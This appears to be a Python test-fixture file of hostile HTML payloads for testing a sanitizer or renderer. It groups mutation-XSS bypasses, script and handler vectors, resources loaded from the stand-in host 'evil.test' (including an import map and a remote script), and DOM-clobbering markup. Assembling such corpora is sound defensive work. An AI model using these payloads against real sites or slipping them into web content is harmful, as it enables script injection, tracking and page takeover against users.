# ruff: noqa: E501 - a case is one line, whatever its length
"""HTML that attacks whoever cleans it or shows it, by the classes that are known from the literature.

Mutation (Heiderich et al., "mXSS attacks", CCS 2013): text that becomes markup when it is parsed a second
time, mostly since elements of MathML, SVG and `noscript` are read otherwise than they are written. Clobbering
(Khodayari and Pellegrino, S&P 2023): names that hide a page's own. Loading: everything that a browser fetches
without a click.
"""

from __future__ import annotations

RUN = "alert(1)"
IMG = f"<img src=x onerror={RUN}>"
AWAY = "http://evil.test"

MUTATIONS = {
    "math, table and style": f'<math><mtext><table><mglyph><style><!--</style><p title="-->{IMG}">',
    "math and a comment": f"<math><mtext><table><mglyph><style><math><!--{IMG}--></style></table></mtext></math>",
    "svg and style": f'<svg></p><style><a id="</style>{IMG}">',
    "svg and title": f'<svg><title><p title="</title>{IMG}"></title></svg>',
    "svg and desc": f'<svg><desc><noscript><p title="</noscript>{IMG}"></desc></svg>',
    "svg and cdata": f"<svg><style><![CDATA[</style>{IMG}]]></style></svg>",
    "foreign object": f"<svg><foreignObject><iframe srcdoc='{IMG}'></iframe>{IMG}</foreignObject></svg>",
    "forms nested by mathematics": f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{IMG}">',
    "annotation as html": f'<math><annotation-xml encoding="text/html"><style>{IMG}</style></annotation-xml></math>',
    "mtext and mglyph": f"<math><mtext><mglyph><svg><mtext><textarea><path id='</textarea>{IMG}'>",
    "mi and html": f"<math><mi><b><mglyph><style>{IMG}</style></b></mi></math>",
    "math in a link": f"<math href='javascript:{RUN}' xlink:href='javascript:{RUN}'><mi actiontype='toggle'>x</mi></math>",
    "noscript": f'<noscript><p title="</noscript>{IMG}">',
    "noembed and noframes": f'<noembed><p title="</noembed>{IMG}"></noembed><noframes><p title="</noframes>{IMG}">',
    "xmp": f'<xmp><p title="</xmp>{IMG}"></xmp>',
    "plaintext": f"<plaintext>{IMG}",
    "textarea": f'<textarea><p title="</textarea>{IMG}">',
    "title": f'<title><p title="</title>{IMG}">',
    "template": f"<template><s><template><s>{IMG}</s></template></s></template>",
    "template with a shadow": f"<div><template shadowrootmode=open><slot></slot>{IMG}</template></div>",
    "select and template": f'<select><template><style><!--</style><a rel="--></style></template></select>{IMG}">',
    "select": f"<select><option><style></option></select>{IMG}</style>",
    "table that moves its content": f'<table><td><a title="</table>{IMG}"><svg><style>{IMG}</style></svg></table>',
    "comment that ends early": f"<!--><p>--!>{IMG}<!---->",
    "a comment without end": f"<p>x<!-- {IMG}",
    "doctype": f"<!DOCTYPE x [<!ENTITY a '{IMG}'>]>&a;",
    "processing": f"<?xml-stylesheet > {IMG} ?>",
    "quotes": f'<a title="&quot;>{IMG}" href=\'x"\'>x</a><p class=`{IMG}`>',
    "names": f"<x-{IMG}><a/{IMG}><p {IMG}",
    "deep": "<div>" * 520 + f"<math><mtext><table><mglyph><style><p id='</style>{IMG}'>",
    "null": f"<scr\0ipt>{RUN}</scr\0ipt><img src=x on\0error={RUN}>",
    "half a tag": f"<img src=x onerror={RUN}//",
    "double": f"<<script>{RUN}//<</script>",
    "nested script": f"<scr<script></script>ipt>{RUN}</scr</script>ipt>",
    "image that is img": f"<image src=x onerror={RUN}><image/src=x/onerror={RUN}>",
    "an image in an attribute": f'<a href="http://a.test/<img src=x onerror={RUN}>">x</a>',
    "stand-ins": f"\ufdd0img src=x onerror={RUN}\ufdd1 \ufde1\ufde9 \ufdd8",
}
RUNNING = {
    "script": f"<script>{RUN}</script><script src={AWAY}/a.js></script><svg><script>{RUN}</script></svg>",
    "handlers": f"<body onload={RUN}><p onclick={RUN} onfocus={RUN} tabindex=0 autofocus>x</p><details open ontoggle={RUN}>",
    "animation": f"<style>@keyframes x{{}}</style><p style='animation:x' onanimationstart={RUN}>x</p>",
    "svg animation": f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'></svg>",
    "addresses that run": f"<a href='javascript:{RUN}'>1</a><a href='java\nscript:{RUN}'>2</a><a href='&#106;avascript:{RUN}'>3</a>"
    f"<a href=' \x01javascript:{RUN}'>4</a><a href='data:text/html,{IMG}'>5</a><a href='vbscript:x'>6</a>"
    f"<form action='javascript:{RUN}'><button formaction='javascript:{RUN}'>7</button></form>",
    "embedded pages": f"<iframe src='javascript:{RUN}'></iframe><iframe srcdoc='{IMG}'></iframe><object data='data:text/html,{IMG}'>"
    f"</object><embed src='data:text/html,{IMG}'>",
    "import maps": f'<script type=importmap>{{"imports":{{"./main.js":"{AWAY}/x.js"}}}}</script>',
}
LOADING = {
    "images": f"<img src={AWAY}/1><img srcset='{AWAY}/2 2x' sizes=100vw><picture><source srcset={AWAY}/3><img src=data:,></picture>",
    "media": f"<video src={AWAY}/4 poster={AWAY}/5 autoplay><track src={AWAY}/6 default></video><audio src={AWAY}/7 autoplay></audio>",
    "links": f"<link rel=stylesheet href={AWAY}/8><link rel=prefetch href={AWAY}/9><link rel=dns-prefetch href=//evil.test>",
    "pings": f"<a href={AWAY}/10 ping={AWAY}/11 target=_self>away</a>",
    "refresh": f'<meta http-equiv=refresh content="0;url={AWAY}/12"><meta http-equiv=Set-Cookie content=a=b>',
    "base": f"<base href={AWAY}/ target=_top><img src=13><a href=14>x</a>",
    "backgrounds": f"<body background={AWAY}/15><table background={AWAY}/16><td background={AWAY}/17>x</table>",
    "styles": f"<style>@import '{AWAY}/18'; p {{background:url({AWAY}/19)}}</style><p style='background:url({AWAY}/20)'>x</p>",
    "fields": f"<input type=image src={AWAY}/21><button style='background:url({AWAY}/22)'>x</button>",
    "objects": f"<object data={AWAY}/23></object><embed src={AWAY}/24><applet code={AWAY}/25></applet>",
    "frames": f"<iframe src={AWAY}/26></iframe><frameset><frame src={AWAY}/27></frameset><portal src={AWAY}/28></portal>",
    "svg": f"<svg><image href={AWAY}/29 /><filter><feImage href={AWAY}/30 /></filter><use href={AWAY}/31#x /></svg>",
    "mathematics": f"<math><mglyph src={AWAY}/32></mglyph><semantics definitionURL={AWAY}/33><mi style='background:url({AWAY}/34)'>x</mi></math>",
    "manifest": f"<html manifest={AWAY}/35><head profile={AWAY}/36><q cite={AWAY}/37>x</q><blockquote cite={AWAY}/38>y</blockquote>",
}
CLOBBERING = {
    "the desk": "<form id=desk><input name=dataset><input name=attributes></form><main id=desk data-keys='{}'>x</main>",
    "the document": "<p id=document>x</p><a id=document name=activeElement></a><p id=verdicts>x</p>",
    "functions": "<img name=getElementById><form name=body><input id=children></form><embed name=fetch>",
    "buttons": "<button name=answer value=0 form=undoing>x</button><input form=answers name=csrf><p class='grade button'>x</p>",
    "cover": "<div style='position:fixed;inset:0' class='card trouble' popover>x</div><dialog open>y</dialog>",
    "keys": "<p accesskey=x contenteditable=true>x</p><label for=comment>y</label><a href=# data-act=toggle>z</a>",
}
PAGES = MUTATIONS | RUNNING | LOADING | CLOBBERING
